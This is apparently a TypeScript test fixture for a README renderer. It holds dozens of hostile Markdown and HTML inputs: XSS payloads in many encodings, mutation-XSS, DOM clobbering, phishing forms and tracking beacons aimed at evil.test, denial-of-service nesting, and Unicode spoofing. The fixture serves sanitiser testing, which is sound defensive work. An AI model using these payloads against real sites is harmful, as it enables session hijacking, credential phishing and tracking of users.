/**
 * READMEs that want to act: each tries to call `pwn()`, to send a request, to leave the page, to take its place, or to
 * break out of its frame. Every text here is executed in a real browser, without any policy.
 */
const BAIT = 'https://evil.test/';

export const EVIL_READMES: Readonly<Record<string, string>> = {
  'scripts in every spelling':
    '<script>pwn()</script>\n\n<SCRIPT SRC=https://evil.test/x.js></SCRIPT>\n\n<scr<script>ipt>pwn()</scr</script>ipt>\n\n<script/x>pwn()</script\n\n<script\n>pwn()</script >',
  'javascript: in links':
    '[a](javascript:pwn()) [b](JaVaScRiPt:pwn()) [c](<java\tscript:pwn()>) <javascript:pwn()> [d](javascript&colon;pwn&lpar;&rpar;)\n\n<a href="javascript:pwn()">x</a><a href=" &#14;javascript:pwn()">x</a><a href="java&#10;script:pwn()">y</a>',
  'entities for schemes':
    '[a](&#x6A;avascript:pwn()) [b](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099:pwn()) <a href="&#x6a;&#x61;vascript&#58;pwn()">x</a>\n\n[r]: &#106;avascript:pwn()\n[r]',
  'data: and vbscript:':
    '[a](data:text/html,<script>top.pwn()</script>) [b](data:text/html;base64,PHNjcmlwdD50b3AucHduKCk8L3NjcmlwdD4=) [c](vbscript:pwn) [d](livescript:pwn()) [e](view-source:javascript:pwn()) [f](blob:https://evil.test/1) [g](filesystem:https://evil.test/a)',
  'handlers of events':
    '<img src=x onerror=pwn()><body onload=pwn()><div onmouseover="pwn()" onfocus=pwn() tabindex=1 autofocus contenteditable>x</div><details open ontoggle=pwn()><summary>x</summary></details><marquee onstart=pwn()>x</marquee><video onerror=pwn()><source></video><input autofocus onfocus=pwn()><p onanimationstart=pwn() style="animation:x 1s">x</p><a href="#" onclick=pwn()>x</a>',
  SVG: '<svg onload=pwn()><svg><script>pwn()</script></svg><svg><animate onbegin=pwn() attributeName=x dur=1s></svg><svg><a xlink:href="javascript:pwn()"><text y=20>x</text></a></svg><svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>pwn()</script></svg>#x"></svg><svg><set attributeName=href to=javascript:pwn()></svg>',
  'namespaces that change the parser':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;"></style></table></mtext></math>\n\n<svg></p><style><a id="</style><img src=1 onerror=pwn()>"></svg>\n\n<math><annotation-xml encoding="text/html"><svg><foreignObject><img src=x onerror=pwn()></foreignObject></svg></annotation-xml></math>',
  'mutation on the second parse':
    '<noscript><p title="</noscript><img src=x onerror=pwn()>"></noscript>\n\n<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()></style></mglyph></form>\n\n<listing>&lt;img src=x onerror=pwn()&gt;</listing><xmp></xmp><img src=x onerror=pwn()></xmp>\n\n<p title="`<img src=x onerror=pwn()>`">x</p><textarea></textarea><img src=x onerror=pwn()></textarea>',
  'ids that replace properties':
    '<a id=getElementById>x</a><a name=cookie id=cookie>x</a><form id=document name=body><input name=parentNode><input id=attributes></form><img name=createElement><img id=forms><div id=__proto__ name=constructor>x</div><a id=pageTitle></a><a id=pageTitle href=https://evil.test/></a>\n\n# pageTitle\n\n# __proto__\n\n[^pageTitle]\n\n[^pageTitle]: x',
  'styles that cover the page':
    '<style>*{display:none}body{background:url(https://evil.test/s)}@import "https://evil.test/i"</style><div style="position:fixed;inset:0;background:url(https://evil.test/b)">cover</div><link rel=stylesheet href=https://evil.test/l.css><p class="page-header hero" style="position:fixed">x</p>',
  'documents in documents':
    '<iframe src="javascript:parent.pwn()"></iframe><iframe srcdoc="<script>parent.pwn()</script>"></iframe><object data="data:text/html,<script>parent.pwn()</script>"></object><embed src="javascript:pwn()"><frameset><frame src="javascript:pwn()"></frameset><portal src=https://evil.test/></portal><fencedframe></fencedframe>',
  'the page elsewhere':
    '<meta http-equiv=refresh content="0;url=https://evil.test/"><base href=https://evil.test/><base target=_blank><meta http-equiv=Content-Security-Policy content="default-src *"><a href="/plugins">relative</a><a ping=https://evil.test/p href=https://evil.test/ target=_top>x</a><link rel=prefetch href=https://evil.test/pf><link rel=dns-prefetch href=//evil.test>',
  forms:
    '<form action=https://evil.test/ method=post><input name=password type=password><button autofocus>Sign in</button></form><button form=f formaction=javascript:pwn()>x</button><input type=image src=https://evil.test/i.png><select onfocus=pwn() autofocus><option>x</select><isindex action=javascript:pwn() type=image><keygen autofocus onfocus=pwn()>',
  'pictures that tell who reads': `![x](${BAIT}a.png) <img src="${BAIT}b.png"><img srcset="${BAIT}c.png 2x" src="//evil.test/d.png"><picture><source srcset="${BAIT}e.png"><img src="${BAIT}f.png" lowsrc="${BAIT}g.png" dynsrc="${BAIT}h.png"></picture><video poster="${BAIT}i.png" src="${BAIT}j.mp4" autoplay></video><audio src="${BAIT}k.mp3" autoplay></audio><table background="${BAIT}l.png"><tr><td background="${BAIT}m.png">x</table><image src="${BAIT}n.png"><bgsound src="${BAIT}o.mid"><input type=image src="${BAIT}p.png"><svg><image href="${BAIT}q.png" /></svg>`,
  'templates, slots and custom elements':
    '<template><img src=x onerror=pwn()></template><template shadowrootmode=open><img src=x onerror=pwn()></template><slot onslotchange=pwn()></slot><x-evil onclick=pwn()>x</x-evil><p is=x-evil>x</p><dialog open onclose=pwn()>x</dialog><div popover id=p>x</div><button popovertarget=p>x</button>',
  'CDATA, comments and instructions':
    '<![CDATA[<img src=x onerror=pwn()>]]>\n\n<!-- --><img src=x onerror=pwn()><!-- -->\n\n<!--><img src=x onerror=pwn()>-->\n\n<!--[if IE]><script>pwn()</script><![endif]-->\n\n<?xml version="1.0"?><?php pwn() ?>\n\n<!DOCTYPE html><!ENTITY x SYSTEM "https://evil.test/e">\n\n<svg><![CDATA[</svg><img src=x onerror=pwn()>]]></svg>',
  'the end of the page':
    'before\n\n</div></article></main></body></html>\n\n</p></section></td></table></template></textarea></title></style></script>\n\n<li id=out>item<dd>x<dt>y<td>z<option>o<tr><caption>c</caption><body class=mine><html lang=mine><head><title>mine</title></head>',
  'tags that are never closed':
    '<div><b><i><a href="https://x.test/"><table><tr><td><h1><ul><li><details open><summary>\n\n```\n<pre><code>\n',
  'quotes that leave attributes':
    '[a](https://x.test/"onmouseover="pwn()) [b](https://x.test \'"><script>pwn()</script>\') ![c"><img src=x onerror=pwn()>](https://x.test/i.png) <a href="https://x.test" title="\'&quot;><img src=x onerror=pwn()>">x</a> [`"><img src=x onerror=pwn()>`](https://x.test)\n\n<a href=https://x.test/`onclick=pwn()>x</a>',
  'markup in code':
    '```<script>\n</code></pre><script>pwn()</script>\n```\n\n```"onload=pwn()\nx\n```\n\n~~~html\n<img src=x onerror=pwn()><script>pwn()</script>\n~~~\n\n`</code><img src=x onerror=pwn()>`\n\n<pre><code class="language-x hljs-evil page-header" data-x=1 onclick=pwn()>x</code></pre>',
  'very deep nesting': `${'<div><span>'.repeat(2400)}<img src=x onerror=pwn()>\n\n${'> '.repeat(90)}deep\n\n${'<b>'.repeat(200)}x`,
  'deeper than any parser goes': `${'<div>'.repeat(40_000)}<script>pwn()</script>`,
  'a hundred thousand cells': `|${'a|'.repeat(100)}\n|${'-|'.repeat(100)}\n${`|${'<img src=x onerror=pwn()>|'.repeat(100)}\n`.repeat(60)}${'|a\n'.repeat(2000)}`,
  'texts for slow expressions': `${'<!--'.repeat(2000)}${'*a_'.repeat(3000)}${'[a]('.repeat(3000)}${'`'.repeat(3000)}\n\n\`\`\`js\n${'/'.repeat(3000)}${'"\\'.repeat(3000)}${'${'.repeat(3000)}\n\`\`\`\n\n\`\`\`perl\n${'a=~s/'.repeat(3000)}\n\`\`\``,
  'right-to-left overrides and invisible text':
    'install \u202eexe.gpj\u202c \u2066\u2067\u2069 in\u200bvisible \u{e0041}\u{e0042} \u061c\ufeff `rm \u202e fr-`\n\n[a\u202e](https://x.test/\u202egpj.exe "t\u202ex") &#x202e; &#x2067; &#xE0041;',
  'towers of accents': `z${'\u0334\u0335\u0336\u0337'.repeat(200)}algo <b title="e${'\u0301'.repeat(400)}">x</b>`,
  'addresses with credentials':
    'https://user:secret@evil.test/ [bank](https://bank.example@evil.test/) <https://a:b@evil.test> [c](//user@evil.test) ![d](https://a:b@evil.test/i.png) [e](http:\\\\evil.test) [f](https:evil.test@x) www.a:b@evil.test',
  'paths out of the repository':
    '[a](../../../../../../evil/repo) [b](/../../../evil) [c](\\\\evil.test\\x) [d](/\\evil.test) [e](..%2f..%2f..%2fevil) [f](///evil.test) [g](./%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/evil) ![h](file:///etc/passwd) [i](?javascript:pwn()) [j](#"onclick=pwn())',
  'marks that the site itself makes':
    '<section data-footnotes class="footnotes hero"><h2 class="sr-only page-header" id=footnote-label>x</h2></section><div class="alert alert-caution table-scroll">x</div><span role=img aria-label="Verified by the registry" class="badge badge-official">official</span><p aria-hidden=true role=alert aria-live=assertive>x</p><a data-footnote-backref class=button href="javascript:pwn()">x</a>\n\n> [!CAUTION]\n> <img src=x onerror=pwn()>\n\n> [!<img src=x onerror=pwn()>]\n> x',
  'keys that are taken':
    '<a accesskey=s href=https://x.test tabindex=99>x</a><div contenteditable draggable=true>x</div><p hidden inert translate=no enterkeyhint=go>x</p><div itemscope itemtype=https://evil.test/t><span itemprop=price>0</span></div><td onclick=pwn()>x</td><p lang="x--" dir=evil>x</p>',
  'another encoding, taken for this one': Array.from('<img src=x onerror=pwn()>').join('\u0000'),
  'lines that end like in another time':
    '# a\r<script>pwn()</script>\r\r- [ ] <img src=x onerror=pwn()>\r\u2028<b onclick=pwn()>\u2029',
  'ids that have the prefix already':
    '<b id="user-content-a">x</b><b id="a">y</b>\n\n# a\n\n[x](#user-content-a) <a id="user-content-"></a> <a href="#%">z</a> <a href="#\u202e">z</a>',
  'the front matter of a page': '---\ntitle: <script>pwn()</script>\n__proto__: {x: 1}\n---\n<script>pwn()</script>',
};
